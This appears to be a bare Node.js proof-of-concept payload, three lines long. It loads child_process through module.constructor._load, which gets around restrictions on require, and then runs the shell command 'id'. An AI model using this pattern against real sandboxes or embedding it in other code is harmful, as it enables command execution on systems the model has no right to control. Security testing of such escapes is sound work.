const M = module.constructor;
const cp = M._load('child_process', module, false);
cp.exec('id');
